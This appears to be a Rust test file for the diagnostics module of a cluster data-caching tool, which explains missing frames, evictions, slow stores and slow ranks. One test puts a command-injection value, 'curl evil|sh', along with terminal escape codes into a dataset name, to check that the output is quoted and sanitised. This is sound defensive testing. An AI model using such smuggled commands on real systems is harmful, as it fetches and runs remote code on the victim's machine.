use super::*;
use proptest::prelude::*;
use zazen_core::RunSet;
use zazen_frames::absence::Absence;
use zazen_frames::scan_record::{Absent, KeptRecord, Part, ScanRecord};

const S: u64 = 1_000_000_000;

fn record(rank: u32, spent_s: [u64; 7]) -> ScanRecord {
    let spent_ns: Vec<u64> = spent_s.iter().map(|s| s * S).collect();
    ScanRecord {
        dataset: "/lustre/sim1".into(),
        series: "sim1".into(),
        node: format!("n{rank}"),
        node_id: u128::from(rank) + 1,
        host: "h".into(),
        job: String::new(),
        pid: 1,
        rank,
        ranks: 4,
        assigned: true,
        whole: true,
        began_ms: 1_000_000,
        wall_ns: spent_ns.iter().sum(),
        spent_ns,
        near_frames: 100,
        near_bytes: 100 << 20,
        far_frames: 0,
        far_bytes: 0,
        failed_frames: 0,
        store_rate: 0,
        store_rate_best: 0,
        absent: Vec::new(),
    }
}

fn absent(why: Absence, set: RunSet) -> Absent {
    Absent { why, at_ms: 880_000, wanted: "/lustre/other".into(), count: set.len(), set }
}

fn nodes(count: u32) -> Vec<NodeSeen> {
    let node = |rank: u32| NodeSeen {
        name: format!("n{rank}"),
        id: u128::from(rank) + 1,
        answers: true,
        up_since_ms: 10,
        series: "sim1".into(),
        native: RunSet::new(),
        cached: RunSet::new(),
        removed: Vec::new(),
    };
    (0..count).map(node).collect()
}

/// Four ranks, of which rank 2 lacked frames for `why` and waited 40 s.
fn with_absent(why: Absence, nodes: &[NodeSeen]) -> Explanation {
    let mut job: Vec<_> = (0..4).map(|rank| record(rank, [0, 1, 8, 0, 0, 1, 2])).collect();
    job[2] = record(2, [0, 1, 8, 0, 40, 1, 2]);
    job[2].far_frames = 312;
    job[2].absent = vec![absent(why, RunSet::range(0, 311))];
    explain(job, nodes, "").unwrap()
}

#[test]
fn a_node_that_is_seen_for_each_series_is_remarked_upon_once() {
    let mut all = nodes(4);
    all[1].up_since_ms = 990_000;
    all.push(NodeSeen { ..nodes(2).remove(1) });
    all[4].up_since_ms = 990_000;
    let remarks = with_absent(Absence::NeverHere, &all).remarks;
    let of_it = remarks.iter().filter(|remark| remark.contains("the daemon of n1 started just before"));
    assert_eq!(of_it.count(), 1, "{remarks:?}");
}

fn check(why: Absence, nodes: &[NodeSeen], cause: Cause, says: &[&str]) {
    let found = with_absent(why, nodes);
    assert_eq!(found.causes[0].cause, cause);
    assert_eq!(found.causes.iter().map(|cause| cause.frames).sum::<u64>(), 312);
    for part in says {
        assert!(found.verdict.contains(part), "{}", found.verdict);
    }
    assert!(!found.mend.is_empty());
}

#[test]
fn waits_for_other_nodes_are_waits_for_frames_and_blocks_of_files_are_loaded_by_a_pattern() {
    let folder = zazen_core::RelPath::new("run1").unwrap();
    let series = folder.series(&zazen_core::Series::Blocks(1 << 20)).unwrap();
    let mut one = record(0, [0, 0, 1, 30, 10, 0, 1]);
    (one.series, one.far_frames) = (series.to_string(), 40);
    one.absent = vec![absent(Absence::NeverHere, RunSet::range(0, 39))];
    let found = explain(vec![one], &nodes(1), "").unwrap();
    assert!(found.verdict.contains("40.0 s of 42.0 s"), "{}", found.verdict);
    assert!(found.mend.starts_with("zazen load /lustre/sim1 --pattern 'FILE{n*1048576}'"), "{}", found.mend);
}

#[test]
fn each_absence_has_its_cause() {
    let all = nodes(4);
    check(
        Absence::NeverHere,
        &all,
        Cause::NeverPushed,
        &["40.0 s of 52.0 s", "312 frames were never pushed"],
    );
    check(
        Absence::Evicted,
        &all,
        Cause::Evicted,
        &["evicted on n2 (2 min before, to make room for /lustre/other)"],
    );
    check(Absence::Stale, &all, Cause::Stale, &["changed after"]);
    check(Absence::Corrupt, &all, Cause::Corrupt, &["wrong bytes"]);
    check(Absence::NoRoom, &all, Cause::OverBudget, &["no room"]);
    check(Absence::Denied, &all, Cause::NoPermission, &["refused"]);
    check(Absence::NodeDead, &all, Cause::DeadNode, &["n2 is or was dead"]);
    check(Absence::NoDaemon, &all, Cause::NoDaemon, &["without a daemon"]);
    check(Absence::CacheFails, &all, Cause::DiskFails, &["failing cache disk"]);
}

#[test]
fn other_nodes_know_more_of_frames_that_were_never_here() {
    let set = || RunSet::range(0, 311);
    let mut all = nodes(5);
    all[1].removed = vec![absent(Absence::Evicted, set())];
    check(Absence::NeverHere, &all, Cause::Evicted, &["evicted on n1"]);
    // A removal after the scan explains nothing.
    all[1].removed[0].at_ms = 2_000_000;
    check(Absence::NeverHere, &all, Cause::NeverPushed, &[]);

    let mut all = nodes(5);
    all[1].native = set();
    check(Absence::NeverHere, &all, Cause::NeverPushed, &[]);
    all[1].up_since_ms = 1_500_000;
    check(Absence::NeverHere, &all, Cause::DeadNode, &["n1"]);

    let mut all = nodes(5);
    all[4].native = set();
    check(Absence::NeverHere, &all, Cause::OtherShare, &["cached on n4", "no rank of the job ran there"]);

    let mut all = nodes(4);
    (all[3].answers, all[3].id) = (false, 0);
    check(Absence::NeverHere, &all, Cause::DeadNode, &["node n3"]);
}

#[test]
fn what_reading_has_cached_needs_no_load() {
    let half = || (RunSet::range(0, 155), RunSet::range(156, 311));
    // Nodes of the job hold all of them together.
    let mut all = nodes(4);
    (all[0].cached, all[3].cached) = half();
    let mend = |why, nodes: &[NodeSeen]| with_absent(why, nodes).mend;
    assert!(mend(Absence::NeverHere, &all).starts_with("nothing to load: reading has cached"), "{all:?}");
    assert!(mend(Absence::Stale, &all).starts_with("nothing to load: "));
    assert!(mend(Absence::Evicted, &all).starts_with("zazen pin /lustre/sim1 "));
    // A bad disk stays bad.
    assert!(mend(Absence::Corrupt, &all).starts_with("zazen verify"));
    let loads = |nodes: &[NodeSeen]| mend(Absence::NeverHere, nodes) == "zazen load /lustre/sim1";
    // One frame is missing; a node does not answer; other numbers of another series; a node without
    // a rank, where the next job would not look either.
    for spoil in [
        |node: &mut NodeSeen| node.cached = RunSet::range(157, 311),
        |node: &mut NodeSeen| node.series = "sim1/other".into(),
        |node: &mut NodeSeen| node.id = 77,
    ] {
        let mut all = nodes(4);
        (all[0].cached, all[3].cached) = half();
        spoil(&mut all[3]);
        assert!(loads(&all), "{all:?}");
    }
    assert!(loads(&nodes(4)));
}

#[test]
fn a_slow_store_is_looked_at_though_its_frames_are_cached_by_now() {
    let mut job: Vec<_> = (0..4).map(|rank| record(rank, [0, 1, 8, 0, 40, 1, 2])).collect();
    for (first, one) in (0..).step_by(10).zip(&mut job) {
        one.absent = vec![absent(Absence::NeverHere, RunSet::range(first, first + 9))];
        (one.store_rate, one.store_rate_best) = (1 << 20, 100 << 20);
    }
    let mut all = nodes(4);
    assert!(explain(job.clone(), &all, "").unwrap().mend.starts_with("zazen load /lustre/sim1 "));
    all[1].cached = RunSet::range(0, 39);
    let mend = explain(job, &all, "").unwrap().mend;
    assert!(mend.starts_with("look at the store; reading has cached"), "{mend}");
}

#[test]
fn a_store_that_gave_more_before_is_the_cause() {
    let mut job: Vec<_> = (0..4).map(|rank| record(rank, [0, 1, 8, 0, 40, 1, 2])).collect();
    for one in &mut job {
        one.absent = vec![absent(Absence::NeverHere, RunSet::range(0, 9))];
        (one.store_rate, one.store_rate_best) = (1 << 20, 100 << 20);
    }
    let found = explain(job.clone(), &nodes(4), "").unwrap();
    assert_eq!(found.findings[0].what, What::SlowStore);
    job.iter_mut().for_each(|one| one.store_rate_best = 2 << 20);
    let found = explain(job, &nodes(4), " --nodes x").unwrap();
    assert_eq!(found.findings[0].what, What::Frames(0));
    assert_eq!(found.mend, "zazen load /lustre/sim1 --nodes x");
}

#[test]
fn a_slow_rank_is_named() {
    let mut job: Vec<_> = (0..4).map(|rank| record(rank, [0, 1, 8, 0, 0, 1, 2])).collect();
    job[3] = record(3, [0, 1, 8, 0, 0, 1, 50]);
    let found = explain(job, &nodes(4), "").unwrap();
    assert_eq!(found.findings[0].what, What::SlowRank(Part::Consumer));
    assert!(
        found.verdict.starts_with("rank 3 (on n3) took 60.0 s, and the median rank 12.0 s"),
        "{}",
        found.verdict
    );
    assert_eq!((found.slowest, found.wall_ns), (3, 60 * S));
}

#[test]
fn a_good_scan_has_nothing_to_mend() {
    let job: Vec<_> = (0..4).map(|rank| record(rank, [0, 0, 1, 0, 0, 0, 50])).collect();
    let found = explain(job, &nodes(4), "").unwrap();
    assert!(
        found.verdict.starts_with("nothing to mend: 50.0 s of 51.0 s were the program's own"),
        "{}",
        found.verdict
    );
    assert!(found.mend.is_empty() && found.causes.is_empty());
    assert_eq!(found.all_local_ns, found.wall_ns);
}

#[test]
fn jobs_are_told_apart() {
    let at = |rank: u32, began_ms: u64| ScanRecord { began_ms, ..record(rank, [0, 0, 1, 0, 0, 0, 1]) };
    let records = [at(0, 100_000), at(1, 100_400), at(0, 200_000), at(1, 203_000), at(0, 103_000)];
    let records = records.map(|record| KeptRecord { uid: 7, record }).into();
    let found: Vec<Vec<u64>> =
        jobs(records).iter().map(|job| job.iter().map(|record| record.began_ms).collect()).collect();
    assert_eq!(found, [vec![200_000, 203_000], vec![103_000, 100_400], vec![100_000]]);
    assert!(explain(Vec::new(), &[], "").is_none());
}

#[test]
fn a_record_of_another_user_is_no_rank_of_the_job() {
    let kept = |uid, rank| KeptRecord { uid, record: record(rank, [0, 0, 1, 0, 0, 0, 1]) };
    let found = jobs(vec![kept(7, 0), kept(8, 2), kept(7, 1), kept(8, 3)]);
    let ranks: Vec<Vec<u32>> =
        found.iter().map(|job| job.iter().map(|record| record.rank).collect()).collect();
    assert!(ranks.contains(&vec![0, 1]) && ranks.contains(&vec![2, 3]) && ranks.len() == 2, "{ranks:?}");
}

#[test]
fn what_a_record_says_reaches_neither_the_terminal_nor_a_shell() {
    let causes = [Absence::NeverHere, Absence::Evicted, Absence::Stale, Absence::Corrupt, Absence::NoDaemon];
    for why in causes {
        let mut one = record(0, [0, 1, 8, 0, 40, 1, 2]);
        one.dataset = "/lustre/x; curl evil|sh #\x1b]0;y\x07".into();
        (one.host, one.node, one.far_frames) = ("h\x1b[2J".into(), "n\x07".into(), 312);
        one.absent = vec![absent(why, RunSet::range(0, 311))];
        one.absent[0].wanted = "/a\x1b[31m".into();
        let found = explain(vec![one], &[], "").unwrap();
        let said =
            format!("{}{}{}", found.verdict, found.mend, found.causes[0].detail) + &found.causes[0].node;
        assert!(!said.contains(|c: char| c.is_control()), "{said:?}");
        if found.mend.starts_with("zazen ") {
            let word = r"$'/lustre/x; curl evil|sh #\033]0;y\007'";
            assert!(found.mend.contains(word), "{}", found.mend);
        }
    }
    assert_eq!(quoted("it's $HOME"), r"'it'\''s $HOME'");
    assert_eq!(quoted("/lustre/sim-1.2"), "/lustre/sim-1.2");
}

proptest! {
    /// Whatever the records say: the costs are within the wall time, each absent frame has one
    /// cause, and all local is no slower than it was.
    #[test]
    fn sums_hold(
        ranks in prop::collection::vec(
            (prop::array::uniform7(0u64..100),
             prop::collection::vec((0usize..9, 0u64..50, 1u64..40), 0..5),
             0u64..1000, 0u64..1000),
            1..6),
        held in (0u64..200, 1u64..100, 0usize..4),
    ) {
        let mut all = nodes(4);
        all[held.2].native = RunSet::range(held.0, held.0 + held.1);
        let job: Vec<ScanRecord> = ranks.into_iter().enumerate().map(|(rank, (spent, notes, rate, best))| {
            let mut one = record(rank as u32, spent);
            let mut next = 0;
            one.absent = notes.into_iter().map(|(why, gap, count)| {
                let first = next + gap;
                next = first + count;
                absent(Absence::ALL[why], RunSet::range(first, next - 1))
            }).collect();
            one.far_frames = one.absent.iter().map(|absent| absent.count).sum();
            (one.store_rate, one.store_rate_best) = (rate, best);
            one
        }).collect();
        let far: u64 = job.iter().map(|record| record.far_frames).sum();
        let found = explain(job, &all, "").unwrap();
        prop_assert_eq!(found.causes.iter().map(|cause| cause.frames).sum::<u64>(), far);
        let cost: u64 = found.findings.iter()
            .filter(|finding| !matches!(finding.what, What::SlowRank(_) | What::Assign))
            .map(|finding| finding.cost_ns).sum();
        let slow = &found.ranks[found.slowest];
        let waited: u64 =
            [Part::Backing, Part::Peer, Part::Daemon].into_iter().map(|part| slow.spent(part)).sum();
        prop_assert!(cost <= waited + 10);
        prop_assert!(found.findings.iter().all(|finding| finding.cost_ns <= found.wall_ns + 10));
        prop_assert!(found.all_local_ns <= found.wall_ns);
        prop_assert!(found.ranks[found.median].wall_ns <= slow.wall_ns);
        prop_assert!(!found.verdict.is_empty());
    }
}
